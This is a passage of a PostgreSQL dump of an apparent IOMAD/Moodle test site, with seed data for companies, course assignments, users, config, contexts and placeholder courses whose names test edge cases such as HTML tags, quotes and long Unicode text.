5	Umbrella (suspended)	umbrella		\N	London	\N	\N	GB	2	1	0	1	0	1	0	99	en	\N	\N		6	0	1					\N	0	0	0	0	\N	0	0	0		0	\N	0	0	\N	\N	\N	\N	0
\.


--
-- Data for Name: mdl_company_course; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_company_course (id, companyid, courseid, departmentid) FROM stdin;
1	1	2	1
2	1	3	1
3	1	4	1
4	1	15	1
5	2	6	2
6	2	7	2
7	2	8	2
8	2	9	2
9	3	10	3
10	3	11	3
11	4	12	4
12	4	13	4
13	5	14	5
14	1	5	1
15	3	5	3
16	2	4	2
17	2	2	2
18	5	2	5
\.


--
-- Data for Name: mdl_company_users; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_company_users (id, companyid, userid, managertype, departmentid, suspended, educator) FROM stdin;
1	1	3	0	1	0	0
2	1	4	0	1	0	0
4	1	6	0	1	0	0
5	1	7	0	1	0	0
7	1	9	0	1	0	0
8	1	10	0	1	0	0
9	1	11	0	1	0	0
10	1	12	0	1	0	0
11	1	13	0	1	0	0
13	1	15	0	1	0	0
14	1	16	0	1	0	0
15	1	17	0	1	0	0
16	1	18	0	1	0	0
17	1	19	0	1	0	0
18	1	20	0	1	0	0
19	2	21	0	2	0	0
20	2	22	0	2	0	0
21	2	23	0	2	0	0
22	2	24	0	2	0	0
23	2	25	0	2	0	0
24	2	26	0	2	0	0
25	2	27	0	2	0	0
26	2	28	0	2	0	0
27	2	29	0	2	0	0
28	2	30	0	2	0	0
32	2	34	0	2	0	0
33	2	35	0	2	0	0
35	3	37	0	3	0	0
36	3	38	0	3	0	0
37	3	39	0	3	0	0
38	3	40	0	3	0	0
39	3	41	0	3	0	0
40	3	42	0	3	0	0
41	3	43	0	3	0	0
42	3	44	0	3	0	0
43	3	45	0	3	0	0
45	3	47	0	3	0	0
46	3	48	0	3	0	0
47	4	49	0	4	0	0
48	4	50	0	4	0	0
49	4	51	0	4	0	0
50	4	52	0	4	0	0
51	4	53	0	4	0	0
52	4	54	0	4	0	0
53	4	55	0	4	0	0
54	4	56	0	4	0	0
55	4	57	0	4	0	0
56	4	58	0	4	0	0
57	5	59	0	5	0	0
58	5	60	0	5	0	0
59	5	61	0	5	0	0
60	5	62	0	5	0	0
61	5	63	0	5	0	0
62	5	64	0	5	0	0
63	2	3	0	2	0	0
64	2	4	0	2	0	0
65	3	5	0	3	0	0
66	4	6	0	4	0	0
67	1	7	0	7	0	0
68	1	7	0	8	0	0
69	1	8	0	8	0	0
34	2	36	1	2	0	1
70	1	66	0	1	0	0
71	2	67	0	2	0	0
72	3	68	0	3	0	0
73	4	69	0	4	0	0
74	5	70	0	5	0	0
75	6	71	0	6	0	0
29	2	31	0	2	1	0
3	1	5	0	1	1	0
76	4	46	0	4	0	0
\.


--
-- Data for Name: mdl_config; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_config (id, name, value) FROM stdin;
22	siteguest	1
30	version	2022112822
5	theme	iomadboost
43	enablecompletion	1
158	timezone	Europe/London
167	lang	en
442	release	4.1.22 (Build: 20251208)
443	branch	401
457	guestroleid	6
458	defaultuserroleid	7
462	gradebookroles	5
614	loglifetime	0
\.


--
-- Data for Name: mdl_context; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_context (id, contextlevel, instanceid, path, depth, locked) FROM stdin;
1	10	0	/1	1	0
2	50	1	/1/2	2	0
3	40	1	/1/3	2	0
4	30	1	/1/4	2	0
5	30	2	/1/5	2	0
6	80	1	/1/6	2	0
7	80	2	/1/2/7	3	0
8	80	3	/1/8	2	0
9	80	4	/1/9	2	0
10	80	5	/1/10	2	0
11	80	6	/1/11	2	0
12	80	7	/1/12	2	0
13	80	8	/1/13	2	0
14	80	9	/1/14	2	0
15	80	10	/1/15	2	0
49	50	9	/1/17/49	3	0
16	40	2	/1/16	2	0
17	40	3	/1/17	2	0
50	70	21	/1/17/49/50	4	0
18	40	4	/1/18	2	0
19	40	5	/1/19	2	0
51	70	22	/1/17/49/51	4	0
20	40	6	/1/20	2	0
21	40	7	/1/21	2	0
22	50	2	/1/16/22	3	0
23	70	1	/1/16/22/23	4	0
24	70	2	/1/16/22/24	4	0
25	70	3	/1/16/22/25	4	0
26	70	4	/1/16/22/26	4	0
27	50	3	/1/16/27	3	0
28	70	5	/1/16/27/28	4	0
29	70	6	/1/16/27/29	4	0
30	70	7	/1/16/27/30	4	0
31	50	4	/1/16/31	3	0
32	70	8	/1/16/31/32	4	0
33	70	9	/1/16/31/33	4	0
34	70	10	/1/16/31/34	4	0
35	70	11	/1/16/31/35	4	0
36	70	12	/1/16/31/36	4	0
37	70	13	/1/16/31/37	4	0
38	50	5	/1/3/38	3	0
39	70	14	/1/3/38/39	4	0
40	70	15	/1/3/38/40	4	0
41	70	16	/1/3/38/41	4	0
42	50	6	/1/17/42	3	0
43	70	17	/1/17/42/43	4	0
44	70	18	/1/17/42/44	4	0
45	50	7	/1/17/45	3	0
46	70	19	/1/17/45/46	4	0
47	50	8	/1/17/47	3	0
48	70	20	/1/17/47/48	4	0
52	70	23	/1/17/49/52	4	0
53	70	24	/1/17/49/53	4	0
54	70	25	/1/17/49/54	4	0
55	70	26	/1/17/49/55	4	0
56	70	27	/1/17/49/56	4	0
57	50	10	/1/18/57	3	0
58	70	28	/1/18/57/58	4	0
59	70	29	/1/18/57/59	4	0
60	70	30	/1/18/57/60	4	0
61	50	11	/1/18/61	3	0
62	70	31	/1/18/61/62	4	0
63	70	32	/1/18/61/63	4	0
64	50	12	/1/19/64	3	0
65	70	33	/1/19/64/65	4	0
66	70	34	/1/19/64/66	4	0
67	70	35	/1/19/64/67	4	0
68	50	13	/1/19/68	3	0
69	70	36	/1/19/68/69	4	0
70	70	37	/1/19/68/70	4	0
71	50	14	/1/20/71	3	0
72	70	38	/1/20/71/72	4	0
73	70	39	/1/20/71/73	4	0
74	50	15	/1/16/74	3	0
75	70	40	/1/16/74/75	4	0
76	70	41	/1/16/74/76	4	0
77	70	42	/1/16/74/77	4	0
78	70	43	/1/16/74/78	4	0
80	50	16	/1/3/80	3	0
81	70	45	/1/3/80/81	4	0
82	70	46	/1/3/80/82	4	0
83	30	3	/1/83	2	0
84	30	4	/1/84	2	0
85	30	5	/1/85	2	0
86	30	6	/1/86	2	0
87	30	7	/1/87	2	0
88	30	8	/1/88	2	0
89	30	9	/1/89	2	0
90	30	10	/1/90	2	0
91	30	11	/1/91	2	0
92	30	12	/1/92	2	0
93	30	13	/1/93	2	0
94	30	14	/1/94	2	0
95	30	15	/1/95	2	0
96	30	16	/1/96	2	0
97	30	17	/1/97	2	0
98	30	18	/1/98	2	0
99	30	19	/1/99	2	0
100	30	20	/1/100	2	0
101	30	21	/1/101	2	0
102	30	22	/1/102	2	0
103	30	23	/1/103	2	0
104	30	24	/1/104	2	0
105	30	25	/1/105	2	0
106	30	26	/1/106	2	0
107	30	27	/1/107	2	0
108	30	28	/1/108	2	0
109	30	29	/1/109	2	0
110	30	30	/1/110	2	0
111	30	31	/1/111	2	0
112	30	32	/1/112	2	0
113	30	33	/1/113	2	0
114	30	34	/1/114	2	0
115	30	35	/1/115	2	0
116	30	36	/1/116	2	0
117	30	37	/1/117	2	0
118	30	38	/1/118	2	0
119	30	39	/1/119	2	0
120	30	40	/1/120	2	0
121	30	41	/1/121	2	0
122	30	42	/1/122	2	0
123	30	43	/1/123	2	0
124	30	44	/1/124	2	0
125	30	45	/1/125	2	0
126	30	46	/1/126	2	0
127	30	47	/1/127	2	0
128	30	48	/1/128	2	0
129	30	49	/1/129	2	0
130	30	50	/1/130	2	0
131	30	51	/1/131	2	0
132	30	52	/1/132	2	0
133	30	53	/1/133	2	0
134	30	54	/1/134	2	0
135	30	55	/1/135	2	0
136	30	56	/1/136	2	0
137	30	57	/1/137	2	0
138	30	58	/1/138	2	0
139	30	59	/1/139	2	0
140	30	60	/1/140	2	0
141	30	61	/1/141	2	0
142	30	62	/1/142	2	0
143	30	63	/1/143	2	0
144	30	64	/1/144	2	0
145	30	65	/1/145	2	0
146	30	66	/1/146	2	0
147	30	67	/1/147	2	0
148	30	68	/1/148	2	0
149	30	69	/1/149	2	0
150	30	70	/1/150	2	0
151	30	71	/1/151	2	0
\.


--
-- Data for Name: mdl_course; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.mdl_course (id, category, sortorder, fullname, shortname, idnumber, summary, summaryformat, format, showgrades, newsitems, startdate, enddate, relativedatesmode, marker, maxbytes, legacyfiles, showreports, visible, visibleold, downloadcontent, groupmode, groupmodeforce, defaultgroupingid, lang, calendartype, theme, timecreated, timemodified, requested, enablecompletion, completionnotify, cacherev, originalcourseid, showactivitydates, showcompletionconditions) FROM stdin;
15	2	60001	Mixed: hidden activity, untracked activity, deletion in progress	MIXED		Test course 14\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788341900	1788341900	0	1	0	1795176001	\N	0	1
2	2	60004	Onboarding basics	ONB		Test course 1\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788339600	1788339600	0	1	0	1795176001	\N	0	1
9	3	50001	Seven activities, no criteria	SEVEN		Test course 8\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788340820	1788340820	0	1	0	1795176001	\N	0	1
1	0	1	IOMAD test PG	iomadpg			0	site	1	3	0	0	0	0	0	0	0	1	1	\N	0	0	0				1795225892	1795226165	0	0	0	1795176001	\N	0	\N
3	2	60003	Safety <b>101</b> & "quotes" 'single' back\\slash, comma; semicolon	SAFE		Test course 2\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788339800	1788339800	0	1	0	1795176001	\N	0	1
13	5	30001	Course grade criterion >= 60	GRAD		Test course 12\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget wisi. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Duis ante orci, molestie vitae vehicula venenatis, tincidunt ac pede. Pellentesque sapien.	0	topics	1	0	1788303600	0	0	0	0	0	0	1	1	\N	0	0	0				1788341600	1788341600	0	1	0	1795176001	\N	0	1
11	4	40001	Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-Läng-课程-🎉END	LONG		Test course 10\nLorem ipsum dolor sit amet, consectetuer adipiscing elit. Nulla non arcu lacinia neque faucibus fringilla. Vivamus porttitor turpis ac leo. Integer in sapien. Nullam eget nisl. Aliquam erat volutpat. Cras elementum. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Integer malesuada. Nullam lectus justo, vulputate eget mollis sed, tempor sed magna. Mauris elementum mauris vitae tortor. Aliquam erat volutpat.\nTemporibus autem quibusdam et aut officiis debitis aut rerum necessitatibus saepe eveniet ut et voluptates repudiandae sint et molestiae non recusandae. Pellentesque ipsum. Cras pede libero, dapibus nec, pretium sit amet, tempor quis. Aliquam ante. Proin in tellus sit amet nibh dignissim sagittis. Vivamus porttitor turpis ac leo. Duis bibendum, lectus ut viverra rhoncus, dolor nunc faucibus libero, eget facilisis enim ipsum id lacus. In sem justo, commodo ut, suscipit at, pharetra vitae, orci. Aliquam erat volutpat. Nulla est.\nVivamus luctus egestas leo. Aenean fermentum risus id tortor. Mauris dictum facilisis augue. Aliquam erat volutpat. Aliquam ornare wisi eu metus. Aliquam id dolor. Duis condimentum augue id magna semper rutrum. Donec iaculis gravida nulla. Pellentesque ipsum. Etiam dictum tincidunt diam. Quisque tincidunt scelerisque libero. Etiam egestas wisi a erat.\nInteger lacinia. Cum sociis natoque penatibus et magnis dis parturient montes, nascetur ridiculus mus. Mauris tincidunt sem sed arcu. Nullam feugiat, turpis at pulvinar vulputate, erat libero tristique tellus, nec bibendum odio risus sit amet ante. Aliquam id dolor. Maecenas sollicitudin. Et harum quidem rerum facilis est et expedita distinctio. Mauris suscipit, ligula sit amet pharetra semper, nibh ante cursus purus, vel sagittis velit mauris vel metus. Nullam dapibus fermentum ipsum. Pellentesque habitant morbi tristique senectus et netus et malesuada fames ac turpis egestas. Nemo enim ipsam voluptatem quia voluptas sit aspernatur aut odit aut fugit, sed quia consequuntur magni dolores eos qui ratione voluptatem sequi nesciunt. Pellentesque sapien. Duis risus. Mauris elementum mauris vitae tortor. Suspendisse nisl. Integer rutrum, orci vestibulum ullamcorper ultricies, lacus quam ultricies odio, vitae placerat pede sem sit amet enim.\nIn laoreet, magna id viverra tincidunt, sem odio bibendum justo, vel imperdiet sapien wisi sed libero. Proin pede metus, vulputate nec, fermentum fringilla, vehicula vitae, justo. Nullam justo enim, consectetuer nec, ullamcorper ac, vestibulum in, elit. Quis autem vel eum iure reprehenderit qui in ea voluptate velit esse quam nihil molestiae consequatur, vel illum qui dolorem eum fugiat quo voluptas nulla pariatur? Maecenas lorem. Etiam posuere lacus quis dolor. Class aptent taciti sociosqu ad litora torquent per conubia nostra, per inceptos hymenaeos. Curabitur ligula sapien, pulvinar a vestibulum quis, facilisis vel sapien. Nam sed tellus id magna elementum tincidunt. Suspendisse nisl. Vivamus luctus egestas leo. Nulla non arcu lacinia neque faucibus fringilla. Etiam dui sem, fermentum vitae, sagittis id, malesuada in, quam. Etiam dictum tincidunt diam. Etiam commodo dui eget 